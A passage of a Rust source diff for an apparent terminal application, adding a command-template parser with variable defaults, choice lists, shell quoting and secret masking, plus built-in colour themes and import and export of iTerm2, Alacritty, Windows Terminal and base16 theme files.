+                    (Some(_), _) if masked => Ok(SECRET_MASK.to_string()),
+                    (Some(value), Some(shell)) if !variable.raw => shell.quote(&value),
+                    (value, _) => Ok(value.unwrap_or_default()),
+                }
+            })
+            .collect::<Result<Vec<_>, _>>()?;
+        Ok(self.assemble(|index| rendered[index].clone()))
+    }
+
+    fn assemble(&self, value: impl Fn(usize) -> String) -> String {
+        let mut output = String::new();
+        for segment in &self.segments {
+            match segment {
+                TemplateSegment::Text(text) => output.push_str(text),
+                TemplateSegment::Variable(index) => output.push_str(&value(*index)),
+            }
+        }
+        output
+    }
+
+    /// Resolves and validates the value of every variable. Blank optional
+    /// variables resolve to None.
+    fn resolve(&self, values: &HashMap<String, String>) -> Result<Vec<Option<String>>, AppError> {
+        self.variables
+            .iter()
+            .map(|variable| {
+                let value = values
+                    .get(&variable.name)
+                    .filter(|v| !v.is_empty())
+                    .or(variable.default.as_ref());
+                let value = match value {
+                    Some(value) => value.clone(),
+                    None if variable.required => {
+                        return Err(AppError::MissingVariable(variable.name.clone()))
+                    }
+                    None => return Ok(None),
+                };
+                if !variable.choices.is_empty() && !variable.choices.contains(&value) {
+                    return Err(AppError::InvalidChoice {
+                        name: variable.name.clone(),
+                        value,
+                    });
+                }
+                Ok(Some(value))
+            })
+            .collect()
+    }
+}
+
+/// Turns the output of a `from` command into choices: one per non-empty
+/// line, trimmed, without duplicates
+pub fn parse_choice_output(output: &str) -> Vec<String> {
+    let mut choices: Vec<String> = Vec::new();
+    for line in output.lines().map(str::trim).filter(|l| !l.is_empty()) {
+        if !choices.iter().any(|c| c == line) {
+            choices.push(line.to_string());
+        }
+    }
+    choices
+}
+
+/// Caches the choices produced by `from` commands for a limited time. The
+/// same command run in different directories is cached separately.
+#[derive(Debug, Clone)]
+pub struct ChoiceCache {
+    ttl: Duration,
+    entries: HashMap<(String, Option<String>), (Instant, Vec<String>)>,
+}
+
+impl ChoiceCache {
+    /// Creates an empty cache whose entries expire after `ttl`
+    pub fn new(ttl: Duration) -> Self {
+        Self {
+            ttl,
+            entries: HashMap::new(),
+        }
+    }
+
+    /// Gets the cached choices for a command run in `cwd`, if they haven't expired
+    pub fn get(&self, command: &str, cwd: Option<&str>, now: Instant) -> Option<&[String]> {
+        self.entries
+            .get(&(command.to_owned(), cwd.map(str::to_owned)))
+            .filter(|(stored, _)| now.saturating_duration_since(*stored) < self.ttl)
+            .map(|(_, choices)| choices.as_slice())
+    }
+
+    /// Stores the choices for a command run in `cwd`
+    pub fn insert(
+        &mut self,
+        command: String,
+        cwd: Option<String>,
+        choices: Vec<String>,
+        now: Instant,
+    ) {
+        self.entries.insert((command, cwd), (now, choices));
+    }
+
+    /// Forgets the cached choices for a command run in `cwd`
+    pub fn invalidate(&mut self, command: &str, cwd: Option<&str>) {
+        self.entries
+            .remove(&(command.to_owned(), cwd.map(str::to_owned)));
+    }
+}
+
+/// Recursive-descent parser over the characters of a template
+struct TemplateParser {
+    chars: Vec<char>,
+    pos: usize,
+    segments: Vec<TemplateSegment>,
+    variables: Vec<TemplateVariable>,
+    /// Whether each variable has been given attributes, as opposed to only
+    /// being referenced by a bare `{{name}}`
+    defined: Vec<bool>,
+}
+
+impl TemplateParser {
+    fn new(source: &str) -> Self {
+        Self {
+            chars: source.chars().collect(),
+            pos: 0,
+            segments: Vec::new(),
+            variables: Vec::new(),
+            defined: Vec::new(),
+        }
+    }
+
+    fn parse(mut self) -> Result<Template, AppError> {
+        let mut text = String::new();
+        while let Some(c) = self.peek() {
+            if c == '\\' && self.starts_with_at(self.pos + 1, "{{") {
+                text.push_str("{{");
+                self.pos += 3;
+            } else if self.at_placeholder() {
+                if !text.is_empty() {
+                    self.segments
+                        .push(TemplateSegment::Text(std::mem::take(&mut text)));
+                }
+                self.parse_placeholder()?;
+            } else {
+                text.push(c);
+                self.pos += 1;
+            }
+        }
+        if !text.is_empty() {
+            self.segments.push(TemplateSegment::Text(text));
+        }
+        Ok(Template {
+            segments: self.segments,
+            variables: self.variables,
+        })
+    }
+
+    /// Whether a placeholder starts here: a `{{` and a variable name followed
+    /// by `}}`, a marker, a default or a modifier. Anything else, such as Go
+    /// templates like `{{json .Config}}`, is text.
+    fn at_placeholder(&self) -> bool {
+        if !self.starts_with("{{") {
+            return false;
+        }
+        let skip = |mut pos: usize, predicate: fn(char) -> bool| {
+            while self.peek_at(pos).is_some_and(predicate) {
+                pos += 1;
+            }
+            pos
+        };
+        let name_pos = skip(self.pos + 2, char::is_whitespace);
+        let end = skip(name_pos, is_template_name_char);
+        if end == name_pos {
+            return false;
+        }
+        let next = skip(end, char::is_whitespace);
+        match self.peek_at(next) {
+            // An unclosed placeholder is reported as an error
+            None => true,
+            Some('?' | '!' | ':' | '|') => true,
+            Some(_) => self.starts_with_at(next, "}}"),
+        }
+    }
+
+    fn parse_placeholder(&mut self) -> Result<(), AppError> {
+        let start = self.pos;
+        self.pos += 2;
+        self.skip_whitespace();
+
+        let name_pos = self.pos;
+        let name = self.take_while(is_template_name_char);
+        if name.is_empty() {
+            return Err(self.error_at(name_pos, "expected a variable name"));
+        }
+
+        let mut variable = TemplateVariable::new(name);
+        let marker = match self.peek() {
+            Some('?') => Some(false),
+            Some('!') => Some(true),
+            _ => None,
+        };
+        if marker.is_some() {
+            self.pos += 1;
+        }
+        let mut has_attributes = marker.is_some();
+        self.skip_whitespace();
+
+        if self.peek() == Some(':') {
+            self.pos += 1;
+            variable.default = Some(self.parse_value()?);
+            has_attributes = true;
+        }
+
+        loop {
+            self.skip_whitespace();
+            if self.starts_with("}}") {
+                self.pos += 2;
+                break;
+            }
+            match self.peek() {
+                Some('|') => {
+                    self.pos += 1;
+                    self.parse_modifier(&mut variable)?;
+                    has_attributes = true;
+                }
+                Some(c) => {
+                    return Err(self.error_at(self.pos, &format!("unexpected character '{c}'")))
+                }
+                None => return Err(self.error_at(start, "unclosed placeholder")),
+            }
+        }
+
+        // Without a marker, a variable is required unless it has a default
+        variable.required = marker.unwrap_or(variable.default.is_none());
+
+        self.add_variable(variable, has_attributes, start)
+    }
+
+    fn parse_modifier(&mut self, variable: &mut TemplateVariable) -> Result<(), AppError> {
+        self.skip_whitespace();
+        let key_pos = self.pos;
+        let key = self.take_while(is_template_name_char);
+        if key.is_empty() {
+            return Err(self.error_at(key_pos, "expected a modifier name"));
+        }
+        self.skip_whitespace();
+        let value = if self.peek() == Some('=') {
+            self.pos += 1;
+            Some(self.parse_value()?)
+        } else {
+            None
+        };
+
+        match (key.as_str(), value) {
+            ("choice" | "from", _) if !variable.choices.is_empty() || variable.from.is_some() => {
+                return Err(self.error_at(key_pos, "a variable can only have one choice list"));
+            }
+            ("choice", Some(value)) => {
+                variable.choices = value
+                    .split(',')
+                    .map(str::trim)
+                    .filter(|c| !c.is_empty())
+                    .map(str::to_owned)
+                    .collect();
+                if variable.choices.is_empty() {
+                    return Err(self.error_at(key_pos, "choice needs at least one option"));
+                }
+            }
+            ("choice", None) => {
+                return Err(self.error_at(key_pos, "choice needs a list of options"));
+            }
+            ("raw", None) => variable.raw = true,
+            ("secret", None) => variable.secret = true,
+            ("from", Some(command)) if !command.is_empty() => variable.from = Some(command),
+            ("from", _) => {
+                return Err(self.error_at(key_pos, "from needs a command"));
+            }
+            (other, _) => {
+                return Err(self.error_at(key_pos, &format!("unknown modifier '{other}'")));
+            }
+        }
+        Ok(())
+    }
+
+    /// Reads a default or modifier value: either a double-quoted string with
+    /// `\"` and `\\` escapes, or bare text up to the next `|` or `}}`
+    fn parse_value(&mut self) -> Result<String, AppError> {
+        self.skip_whitespace();
+        if self.peek() == Some('"') {
+            let quote_pos = self.pos;
+            self.pos += 1;
+            let mut value = String::new();
+            loop {
+                match self.peek() {
+                    Some('\\') if matches!(self.peek_at(self.pos + 1), Some('"' | '\\')) => {
+                        value.push(self.chars[self.pos + 1]);
+                        self.pos += 2;
+                    }
+                    Some('"') => {
+                        self.pos += 1;
+                        return Ok(value);
+                    }
+                    Some(c) => {
+                        value.push(c);
+                        self.pos += 1;
+                    }
+                    None => return Err(self.error_at(quote_pos, "unterminated quoted value")),
+                }
+            }
+        }
+
+        let mut value = String::new();
+        while let Some(c) = self.peek() {
+            if c == '|' || self.starts_with("}}") {
+                break;
+            }
+            value.push(c);
+            self.pos += 1;
+        }
+        Ok(value.trim().to_string())
+    }
+
+    /// Records a variable occurrence. A bare reference reuses an earlier
+    /// definition; two definitions with different attributes are an error.
+    fn add_variable(
+        &mut self,
+        variable: TemplateVariable,
+        has_attributes: bool,
+        start: usize,
+    ) -> Result<(), AppError> {
+        let index = match self.variables.iter().position(|v| v.name == variable.name) {
+            None => {
+                self.variables.push(variable);
+                self.defined.push(has_attributes);
+                self.variables.len() - 1
+            }
+            Some(index) => {
+                if has_attributes {
+                    if self.defined[index] && self.variables[index] != variable {
+                        return Err(self.error_at(
+                            start,
+                            &format!("conflicting definitions of variable '{}'", variable.name),
+                        ));
+                    }
+                    self.variables[index] = variable;
+                    self.defined[index] = true;
+                }
+                index
+            }
+        };
+        self.segments.push(TemplateSegment::Variable(index));
+        Ok(())
+    }
+
+    fn peek(&self) -> Option<char> {
+        self.peek_at(self.pos)
+    }
+
+    fn peek_at(&self, pos: usize) -> Option<char> {
+        self.chars.get(pos).copied()
+    }
+
+    fn starts_with(&self, pattern: &str) -> bool {
+        self.starts_with_at(self.pos, pattern)
+    }
+
+    fn starts_with_at(&self, pos: usize, pattern: &str) -> bool {
+        pattern
+            .chars()
+            .enumerate()
+            .all(|(i, c)| self.peek_at(pos + i) == Some(c))
+    }
+
+    fn take_while(&mut self, predicate: fn(char) -> bool) -> String {
+        let start = self.pos;
+        while self.peek().is_some_and(predicate) {
+            self.pos += 1;
+        }
+        self.chars[start..self.pos].iter().collect()
+    }
+
+    fn skip_whitespace(&mut self) {
+        while self.peek().is_some_and(char::is_whitespace) {
+            self.pos += 1;
+        }
+    }
+
+    fn error_at(&self, position: usize, message: &str) -> AppError {
+        AppError::Template {
+            position,
+            message: message.to_string(),
+        }
+    }
+}
+
+fn is_template_name_char(c: char) -> bool {
+    c.is_alphanumeric() || matches!(c, '_' | '-')
+}
+
+/// Checks that `value` is a `#rgb`, `#rrggbb` or `#rrggbbaa` hex color
+pub fn validate_color(field: &str, value: &str) -> Result<(), AppError> {
+    let valid = value.strip_prefix('#').is_some_and(|hex| {
+        matches!(hex.len(), 3 | 6 | 8) && hex.chars().all(|c| c.is_ascii_hexdigit())
+    });
+    if valid {
+        Ok(())
+    } else {
+        Err(AppError::InvalidColor {
+            field: field.to_owned(),
+            value: value.to_owned(),
+        })
+    }
+}
+
+/// Colors of a terminal: the 16 ANSI colors plus the cursor and selection.
+/// Colors missing from a config file are taken from the default theme.
+#[derive(Debug, Clone, Serialize, Deserialize, PartialEq)]
+#[serde(default)]
+pub struct TerminalTheme {
+    pub name: String,
+    pub background: String,
+    pub foreground: String,
+    pub cursor: String,
+    /// Color of the character under a block cursor
+    pub cursor_accent: String,
+    pub selection_background: String,
+    pub black: String,
+    pub red: String,
+    pub green: String,
+    pub yellow: String,
+    pub blue: String,
+    pub magenta: String,
+    pub cyan: String,
+    pub white: String,
+    pub bright_black: String,
+    pub bright_red: String,
+    pub bright_green: String,
+    pub bright_yellow: String,
+    pub bright_blue: String,
+    pub bright_magenta: String,
+    pub bright_cyan: String,
+    pub bright_white: String,
+}
+
+/// Name of the theme used until another is chosen
+pub const DEFAULT_THEME: &str = "Termos Dark";
+
+/// Built-in themes as name, background, foreground, cursor, selection and
+/// the 16 ANSI colors
+const BUILTIN_THEMES: &[(&str, [&str; 4], [&str; 16])] = &[
+    (
+        DEFAULT_THEME,
+        ["#1e1e1e", "#d4d4d4", "#d4d4d4", "#264f78"],
+        [
+            "#000000", "#cd3131", "#0dbc79", "#e5e510", "#2472c8", "#bc3fbc", "#11a8cd", "#e5e5e5",
+            "#666666", "#f14c4c", "#23d18b", "#f5f543", "#3b8eea", "#d670d6", "#29b8db", "#ffffff",
+        ],
+    ),
+    (
+        "Dracula",
+        ["#282a36", "#f8f8f2", "#f8f8f2", "#44475a"],
+        [
+            "#21222c", "#ff5555", "#50fa7b", "#f1fa8c", "#bd93f9", "#ff79c6", "#8be9fd", "#f8f8f2",
+            "#6272a4", "#ff6e6e", "#69ff94", "#ffffa5", "#d6acff", "#ff92df", "#a4ffff", "#ffffff",
+        ],
+    ),
+    (
+        "Gruvbox Dark",
+        ["#282828", "#ebdbb2", "#ebdbb2", "#504945"],
+        [
+            "#282828", "#cc241d", "#98971a", "#d79921", "#458588", "#b16286", "#689d6a", "#a89984",
+            "#928374", "#fb4934", "#b8bb26", "#fabd2f", "#83a598", "#d3869b", "#8ec07c", "#ebdbb2",
+        ],
+    ),
+    (
+        "Nord",
+        ["#2e3440", "#d8dee9", "#d8dee9", "#434c5e"],
+        [
+            "#3b4252", "#bf616a", "#a3be8c", "#ebcb8b", "#81a1c1", "#b48ead", "#88c0d0", "#e5e9f0",
+            "#4c566a", "#bf616a", "#a3be8c", "#ebcb8b", "#81a1c1", "#b48ead", "#8fbcbb", "#eceff4",
+        ],
+    ),
+    (
+        "One Dark",
+        ["#282c34", "#abb2bf", "#528bff", "#3e4451"],
+        [
+            "#282c34", "#e06c75", "#98c379", "#e5c07b", "#61afef", "#c678dd", "#56b6c2", "#abb2bf",
+            "#5c6370", "#e06c75", "#98c379", "#e5c07b", "#61afef", "#c678dd", "#56b6c2", "#ffffff",
+        ],
+    ),
+    (
+        "Solarized Dark",
+        ["#002b36", "#839496", "#93a1a1", "#073642"],
+        [
+            "#073642", "#dc322f", "#859900", "#b58900", "#268bd2", "#d33682", "#2aa198", "#eee8d5",
+            "#002b36", "#cb4b16", "#586e75", "#657b83", "#839496", "#6c71c4", "#93a1a1", "#fdf6e3",
+        ],
+    ),
+    (
+        "Solarized Light",
+        ["#fdf6e3", "#657b83", "#586e75", "#eee8d5"],
+        [
+            "#073642", "#dc322f", "#859900", "#b58900", "#268bd2", "#d33682", "#2aa198", "#eee8d5",
+            "#002b36", "#cb4b16", "#586e75", "#657b83", "#839496", "#6c71c4", "#93a1a1", "#fdf6e3",
+        ],
+    ),
+];
+
+impl TerminalTheme {
+    /// Builds a theme from its base colors and the 16 ANSI colors, normal
+    /// then bright. The cursor accent is the background.
+    fn from_palette(
+        name: &str,
+        [background, foreground, cursor, selection]: [&str; 4],
+        ansi: [&str; 16],
+    ) -> Self {
+        let mut theme = Self {
+            name: name.to_string(),
+            background: background.to_string(),
+            foreground: foreground.to_string(),
+            cursor: cursor.to_string(),
+            cursor_accent: background.to_string(),
+            selection_background: selection.to_string(),
+            black: String::new(),
+            red: String::new(),
+            green: String::new(),
+            yellow: String::new(),
+            blue: String::new(),
+            magenta: String::new(),
+            cyan: String::new(),
+            white: String::new(),
+            bright_black: String::new(),
+            bright_red: String::new(),
+            bright_green: String::new(),
+            bright_yellow: String::new(),
+            bright_blue: String::new(),
+            bright_magenta: String::new(),
+            bright_cyan: String::new(),
+            bright_white: String::new(),
+        };
+        for (slot, color) in theme.ansi_mut().into_iter().zip(ansi) {
+            *slot = color.to_string();
+        }
+        theme
+    }
+
+    /// Gets a built-in theme by name, ignoring case
+    pub fn builtin(name: &str) -> Option<Self> {
+        BUILTIN_THEMES
+            .iter()
+            .find(|(builtin, _, _)| builtin.eq_ignore_ascii_case(name))
+            .map(|(name, base, ansi)| Self::from_palette(name, *base, *ansi))
+    }
+
+    /// Gets a built-in theme by name, failing with `ThemeNotFound`
+    pub fn by_name(name: &str) -> Result<Self, AppError> {
+        Self::builtin(name).ok_or_else(|| AppError::ThemeNotFound(name.to_owned()))
+    }
+
+    /// Names of the built-in themes
+    pub fn builtin_names() -> Vec<&'static str> {
+        BUILTIN_THEMES.iter().map(|(name, _, _)| *name).collect()
+    }
+
+    /// The 16 ANSI colors, normal then bright
+    pub fn ansi(&self) -> [&str; 16] {
+        [
+            &self.black,
+            &self.red,
+            &self.green,
+            &self.yellow,
+            &self.blue,
+            &self.magenta,
+            &self.cyan,
+            &self.white,
+            &self.bright_black,
+            &self.bright_red,
+            &self.bright_green,
+            &self.bright_yellow,
+            &self.bright_blue,
+            &self.bright_magenta,
+            &self.bright_cyan,
+            &self.bright_white,
+        ]
+        .map(String::as_str)
+    }
+
+    /// Mutable access to the 16 ANSI colors, normal then bright
+    pub fn ansi_mut(&mut self) -> [&mut String; 16] {
+        [
+            &mut self.black,
+            &mut self.red,
+            &mut self.green,
+            &mut self.yellow,
+            &mut self.blue,
+            &mut self.magenta,
+            &mut self.cyan,
+            &mut self.white,
+            &mut self.bright_black,
+            &mut self.bright_red,
+            &mut self.bright_green,
+            &mut self.bright_yellow,
+            &mut self.bright_blue,
+            &mut self.bright_magenta,
+            &mut self.bright_cyan,
+            &mut self.bright_white,
+        ]
+    }
+
+    /// Every color with its field name
+    pub fn colors(&self) -> Vec<(&'static str, &str)> {
+        let base = [
+            ("background", self.background.as_str()),
+            ("foreground", &self.foreground),
+            ("cursor", &self.cursor),
+            ("cursor_accent", &self.cursor_accent),
+            ("selection_background", &self.selection_background),
+        ];
+        base.into_iter()
+            .chain(ANSI_COLOR_NAMES.into_iter().zip(self.ansi()))
+            .collect()
+    }
+
+    /// Checks that every color is a hex color
+    pub fn validate(&self) -> Result<(), AppError> {
+        self.colors()
+            .into_iter()
+            .try_for_each(|(field, value)| validate_color(field, value))
+    }
+}
+
+/// Field names of the 16 ANSI colors, normal then bright
+pub const ANSI_COLOR_NAMES: [&str; 16] = [
+    "black",
+    "red",
+    "green",
+    "yellow",
+    "blue",
+    "magenta",
+    "cyan",
+    "white",
+    "bright_black",
+    "bright_red",
+    "bright_green",
+    "bright_yellow",
+    "bright_blue",
+    "bright_magenta",
+    "bright_cyan",
+    "bright_white",
+];
+
+impl Default for TerminalTheme {
+    fn default() -> Self {
+        let (name, base, ansi) = BUILTIN_THEMES[0];
+        Self::from_palette(name, base, ansi)
+    }
+}
+
+/// File formats terminal themes can be imported from
+#[derive(Debug, Clone, Copy, Serialize, Deserialize, PartialEq, Eq)]
+#[serde(rename_all = "snake_case")]
+pub enum ThemeFormat {
+    /// iTerm2 `.itermcolors` property list
+    Iterm,
+    /// Alacritty `[colors]` section in TOML
+    AlacrittyToml,
+    /// Alacritty `colors:` section in YAML
+    AlacrittyYaml,
+    /// Windows Terminal color scheme JSON
+    WindowsTerminal,
+    /// base16 scheme YAML
+    Base16,
+}
+
+impl std::fmt::Display for ThemeFormat {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        f.write_str(match self {
+            Self::Iterm => "iTerm2",
+            Self::AlacrittyToml => "Alacritty TOML",
+            Self::AlacrittyYaml => "Alacritty YAML",
+            Self::WindowsTerminal => "Windows Terminal",
+            Self::Base16 => "base16",
+        })
+    }
+}
+
+/// iTerm2 key suffixes of the base colors, in `TerminalTheme::colors` order
+const ITERM_BASE_KEYS: [&str; 5] = [
+    "Background",
+    "Foreground",
+    "Cursor",
+    "Cursor Text",
+    "Selection",
+];
+
+/// Windows Terminal names of the 16 ANSI colors, normal then bright
+const WINDOWS_TERMINAL_ANSI_KEYS: [&str; 16] = [
+    "black",
+    "red",
+    "green",
+    "yellow",
+    "blue",
+    "purple",
+    "cyan",
+    "white",
+    "brightBlack",
+    "brightRed",
+    "brightGreen",
+    "brightYellow",
+    "brightBlue",
+    "brightPurple",
+    "brightCyan",
+    "brightWhite",
+];
+
+/// base16 slots used for the 16 ANSI colors, following base16-shell
+const BASE16_ANSI_SLOTS: [&str; 16] = [
+    "base00", "base08", "base0b", "base0a", "base0d", "base0e", "base0c", "base05", "base03",
+    "base08", "base0b", "base0a", "base0d", "base0e", "base0c", "base07",
+];
+
+impl ThemeFormat {
+    /// Guesses the format of a theme file from its extension and, for
+    /// YAML, its contents
+    pub fn detect(path: &Path, source: &str) -> Option<Self> {
+        let extension = path.extension()?.to_str()?.to_ascii_lowercase();
+        match extension.as_str() {
+            "itermcolors" | "plist" => Some(Self::Iterm),
+            "toml" => Some(Self::AlacrittyToml),
+            "json" => Some(Self::WindowsTerminal),
+            "yml" | "yaml" if source.contains("base00") => Some(Self::Base16),
+            "yml" | "yaml" => Some(Self::AlacrittyYaml),
+            _ => None,
+        }
+    }
+
+    fn invalid(self, message: impl std::fmt::Display) -> AppError {
+        AppError::InvalidTheme {
+            format: self,
+            message: message.to_string(),
+        }
+    }
+
+    fn missing(self, color: &str) -> AppError {
+        AppError::MissingColor {
+            format: self,
+            color: color.to_owned(),
+        }
+    }
+}
+
+/// Normalizes `#RRGGBB`, `0xRRGGBB` and bare `RRGGBB` colors to lowercase
+/// `#rrggbb`, returning None for anything that isn't a hex color
+fn normalize_color(value: &str) -> Option<String> {
+    let value = value.trim();
+    let hex = value
+        .strip_prefix('#')
+        .or_else(|| value.strip_prefix("0x"))
+        .or_else(|| value.strip_prefix("0X"))
+        .unwrap_or(value);
+    let color = format!("#{}", hex.to_ascii_lowercase());
+    validate_color("", &color).ok().map(|_| color)
+}
+
+/// Writes a valid theme color as `#rrggbb`: `#rgb` is expanded and the
+/// alpha of `#rrggbbaa` dropped
+fn export_color(value: &str) -> String {
+    let hex = value.trim_start_matches('#').to_ascii_lowercase();
+    match hex.len() {
+        3 => hex.chars().fold(String::from("#"), |mut color, c| {
+            color.push(c);
+            color.push(c);
+            color
+        }),
+        _ => format!("#{}", &hex[..6.min(hex.len())]),
+    }
+}
+
+/// Builds a theme from a lookup of base color (in `TerminalTheme::colors`
+/// order) and ANSI color values. The cursor defaults to the foreground, the
+/// cursor accent to the background and the selection to the default
+/// theme's; all other colors are required.
+fn theme_from_colors(
+    format: ThemeFormat,
+    name: String,
+    base: [Option<String>; 5],
+    ansi: [(String, Option<String>); 16],
+) -> Result<TerminalTheme, AppError> {
+    let [background, foreground, cursor, cursor_accent, selection] = base;
+    let background = background.ok_or_else(|| format.missing("background"))?;
+    let foreground = foreground.ok_or_else(|| format.missing("foreground"))?;
+    let mut theme = TerminalTheme {
+        name,
+        cursor: cursor.unwrap_or_else(|| foreground.clone()),
+        cursor_accent: cursor_accent.unwrap_or_else(|| background.clone()),
+        selection_background: selection
+            .unwrap_or_else(|| TerminalTheme::default().selection_background),
+        background,
+        foreground,
+        ..TerminalTheme::default()
+    };
+    for (slot, (key, color)) in theme.ansi_mut().into_iter().zip(ansi) {
+        *slot = color.ok_or_else(|| format.missing(&key))?;
+    }
+    theme.validate()?;
+    Ok(theme)
+}
+
+/// Reads a hex color from a JSON value, failing on values that aren't colors
+fn json_color(
+    format: ThemeFormat,
+    key: &str,
+    value: Option<&Value>,
+) -> Result<Option<String>, AppError> {
+    match value {
+        None | Some(Value::Null) => Ok(None),
+        Some(Value::String(text)) => normalize_color(text)
+            .map(Some)
+            .ok_or_else(|| format.invalid(format!("{key} is not a hex color: `{text}`"))),
+        Some(other) => Err(format.invalid(format!("{key} is not a hex color: `{other}`"))),
+    }
+}
+
+impl TerminalTheme {
+    /// Imports a theme from another terminal's format. `name` is used when
+    /// the file doesn't name the theme itself, e.g. the file name.
+    pub fn import(source: &str, format: ThemeFormat, name: &str) -> Result<Self, AppError> {
+        match format {
+            ThemeFormat::Iterm => Self::import_iterm(source, name),
+            ThemeFormat::AlacrittyToml => {
+                let document: Value = toml::from_str(source).map_err(|e| format.invalid(e))?;
+                Self::import_alacritty(&document, format, name)
+            }
+            ThemeFormat::AlacrittyYaml => {
+                let document: Value =
+                    serde_yaml::from_str(source).map_err(|e| format.invalid(e))?;
+                Self::import_alacritty(&document, format, name)
+            }
+            ThemeFormat::WindowsTerminal => {
+                let document: Value =
+                    serde_json::from_str(source).map_err(|e| format.invalid(e))?;
+                Self::import_windows_terminal(&document, name)
+            }
+            ThemeFormat::Base16 => {
+                let document: Value =
+                    serde_yaml::from_str(source).map_err(|e| format.invalid(e))?;
+                Self::import_base16(&document, name)
+            }
+        }
+    }
+
+    fn import_iterm(source: &str, name: &str) -> Result<Self, AppError> {
+        let format = ThemeFormat::Iterm;
+        // Property lists come with a DOCTYPE, which roxmltree rejects by default
+        let options = roxmltree::ParsingOptions {
+            allow_dtd: true,
+            ..roxmltree::ParsingOptions::default()
+        };
+        let xml = roxmltree::Document::parse_with_options(source, options)
+            .map_err(|e| format.invalid(e))?;
+        let dict = xml
+            .descendants()
+            .find(|node| node.has_tag_name("dict"))
+            .ok_or_else(|| format.invalid("no <dict> found"))?;
+
+        // Top-level entries alternate between <key> and a <dict> of components
+        let mut colors = HashMap::new();
+        let mut key = None;
+        for node in dict.children().filter(|node| node.is_element()) {
+            if node.has_tag_name("key") {
+                key = node.text();
+            } else if let (Some(name), true) = (key.take(), node.has_tag_name("dict")) {
+                colors.insert(name, iterm_color(format, name, node)?);
+            }
+        }
+
+        let mut color = |key: &str| colors.remove(format!("{key} Color").as_str());
+        let base = ITERM_BASE_KEYS.map(&mut color);
+        let ansi = std::array::from_fn(|i| {
+            let key = format!("Ansi {i}");
+            let value = color(&key);
+            (format!("{key} Color"), value)
+        });
+        theme_from_colors(format, name.to_owned(), base, ansi)
+    }
+
+    fn import_alacritty(
+        document: &Value,
+        format: ThemeFormat,
+        name: &str,
+    ) -> Result<Self, AppError> {
+        let colors = document
+            .get("colors")
+            .ok_or_else(|| format.invalid("no colors section"))?;
+        let color = |section: &str, key: &str| {
+            let path = format!("colors.{section}.{key}");
+            match colors.get(section).and_then(|s| s.get(key)) {
+                // Alacritty also accepts e.g. `CellForeground` for the cursor and selection
+                Some(Value::String(text))
+                    if normalize_color(text).is_none()
+                        && ["cursor", "selection"].contains(&section) =>
+                {
+                    Ok(None)
+                }
+                value => json_color(format, &path, value),
+            }
+        };
+        let base = [
+            color("primary", "background")?,
+            color("primary", "foreground")?,
+            color("cursor", "cursor")?,
+            color("cursor", "text")?,
+            color("selection", "background")?,
+        ];
+        let mut ansi: [(String, Option<String>); 16] = Default::default();
+        for (i, slot) in ansi.iter_mut().enumerate() {
+            let (section, key) = match ANSI_COLOR_NAMES[i].strip_prefix("bright_") {
+                Some(key) => ("bright", key),
+                None => ("normal", ANSI_COLOR_NAMES[i]),
+            };
+            *slot = (format!("colors.{section}.{key}"), color(section, key)?);
+        }
+        theme_from_colors(format, name.to_owned(), base, ansi)
+    }
+
+    fn import_windows_terminal(document: &Value, name: &str) -> Result<Self, AppError> {
+        let format = ThemeFormat::WindowsTerminal;
+        // Accept a whole settings.json by taking its first scheme
+        let scheme = match document.get("schemes") {
+            Some(Value::Array(schemes)) => schemes
+                .first()
+                .ok_or_else(|| format.invalid("settings have no color schemes"))?,
+            _ => document,
+        };
+        let color = |key: &str| json_color(format, key, scheme.get(key));
+        let base = [
+            color("background")?,
+            color("foreground")?,
+            color("cursorColor")?,
+            None,
+            color("selectionBackground")?,
+        ];
+        let mut ansi: [(String, Option<String>); 16] = Default::default();
+        for (slot, key) in ansi.iter_mut().zip(WINDOWS_TERMINAL_ANSI_KEYS) {
+            *slot = (key.to_string(), color(key)?);
+        }
+        let name = scheme.get("name").and_then(Value::as_str).unwrap_or(name);
+        theme_from_colors(format, name.to_owned(), base, ansi)
+    }
+
+    fn import_base16(document: &Value, name: &str) -> Result<Self, AppError> {
+        let format = ThemeFormat::Base16;
+        // Newer schemes nest the slots under `palette`
+        let palette = document.get("palette").unwrap_or(document);
+        let slots: HashMap<String, &Value> = palette
+            .as_object()
+            .ok_or_else(|| format.invalid("expected a mapping of base00 to base0F"))?
+            .iter()
+            .map(|(key, value)| (key.to_ascii_lowercase(), value))
+            .collect();
+        let color = |slot: &str| json_color(format, slot, slots.get(slot).copied());
+        let base = [
+            color("base00")?,
+            color("base05")?,
+            color("base05")?,
+            None,
+            color("base02")?,
+        ];
+        let mut ansi: [(String, Option<String>); 16] = Default::default();
+        for (slot, key) in ansi.iter_mut().zip(BASE16_ANSI_SLOTS) {
+            *slot = (key.to_string(), color(key)?);
+        }
+        let name = ["scheme", "name"]
+            .iter()
+            .find_map(|key| document.get(key).and_then(Value::as_str))
+            .unwrap_or(name);
+        theme_from_colors(format, name.to_owned(), base, ansi)
+    }
+
+    /// Exports the theme for another terminal. Alacritty TOML and Windows
+    /// Terminal JSON are supported. Colors are written as `#rrggbb`, the
+    /// only form both read, so short colors are expanded and alpha dropped.
+    pub fn export(&self, format: ThemeFormat) -> Result<String, AppError> {
+        let mut theme = self.clone();
+        for color in [
+            &mut theme.background,
+            &mut theme.foreground,
+            &mut theme.cursor,
+            &mut theme.cursor_accent,
+            &mut theme.selection_background,
+        ] {
+            *color = export_color(color);
+        }
+        for color in theme.ansi_mut() {
+            *color = export_color(color);
+        }
+        match format {
+            ThemeFormat::AlacrittyToml => {
+                let mut normal = toml::Table::new();
+                let mut bright = toml::Table::new();
+                for (key, color) in ANSI_COLOR_NAMES.iter().zip(theme.ansi()) {
+                    match key.strip_prefix("bright_") {
+                        Some(key) => bright.insert(key.to_string(), color.into()),
+                        None => normal.insert(key.to_string(), color.into()),
+                    };
+                }
+                let section = |pairs: &[(&str, &str)]| {
+                    let table: toml::Table = pairs
+                        .iter()
+                        .map(|(key, color)| (key.to_string(), toml::Value::from(*color)))
+                        .collect();
+                    toml::Value::Table(table)
+                };
+                let mut colors = toml::Table::new();
+                colors.insert(
+                    "primary".into(),
+                    section(&[
+                        ("background", &theme.background),
+                        ("foreground", &theme.foreground),
+                    ]),
+                );
+                colors.insert(
+                    "cursor".into(),
+                    section(&[("cursor", &theme.cursor), ("text", &theme.cursor_accent)]),
+                );
+                colors.insert(
+                    "selection".into(),
+                    section(&[("background", &theme.selection_background)]),
+                );
+                colors.insert("normal".into(), toml::Value::Table(normal));
+                colors.insert("bright".into(), toml::Value::Table(bright));
+                let mut document = toml::Table::new();
+                document.insert("colors".into(), toml::Value::Table(colors));
